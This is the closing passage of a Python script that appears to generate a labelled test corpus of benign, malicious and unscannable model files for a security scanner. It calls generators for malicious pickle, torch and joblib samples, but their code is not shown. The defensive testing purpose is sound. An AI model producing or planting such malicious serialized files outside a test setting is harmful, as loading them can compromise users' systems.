    with open(os.path.join(c.root, "README.md"), "w", encoding="utf-8") as f:
        f.write(README.replace("{versions}", vers).replace("{counts}", count_lines))


def prepare_outdir(root):
    if os.path.exists(root):
        entries = set(os.listdir(root))
        ours = {"benign", "malicious", "unscannable", "LABELS.tsv", "README.md"}
        if entries and not entries <= ours:
            sys.exit(f"gen_fixtures: {root} holds files this script did not write: {sorted(entries - ours)}")
        for name in entries:
            p = os.path.join(root, name)
            shutil.rmtree(p) if os.path.isdir(p) else os.remove(p)
    os.makedirs(root, exist_ok=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("outdir", help="corpus directory, normally testdata/corpus")
    ap.add_argument("--examples", help="also write the demo models into this directory (normally examples)")
    args = ap.parse_args()

    for k, v in versions():
        print(f"# {k} {v}")
    prepare_outdir(args.outdir)
    c = Corpus(args.outdir)
    with tempfile.TemporaryDirectory() as tmp:
        gen_torch_benign(c)
        fitted = gen_sklearn_benign(c)
        gen_numpy_benign(c)
        gen_pickle_benign(c)
        gen_reduce_malicious(c)
        gen_torch_malicious(c, tmp)
        gen_joblib_numpy_malicious(c, fitted)
        gen_opcode_malicious(c)
        gen_unscannable(c, tmp)
    if args.examples:
        gen_examples(args.examples)
    write_labels_and_readme(c)
    self_check_gadgets()
    verify_benign(c)

    total = sum(os.path.getsize(os.path.join(c.root, r[0])) for r in c.labels)
    big = [(r[0], os.path.getsize(os.path.join(c.root, r[0]))) for r in c.labels
           if os.path.getsize(os.path.join(c.root, r[0])) > 5 * MiB]
    counts = collections.Counter(r[1] for r in c.labels)
    print(f"# {len(c.labels)} files ({dict(counts)}), {total / MiB:.2f} MiB total")
    for rel, size in big:
        print(f"# over 5 MiB: {rel} {size / MiB:.2f} MiB")


if __name__ == "__main__":
    main()
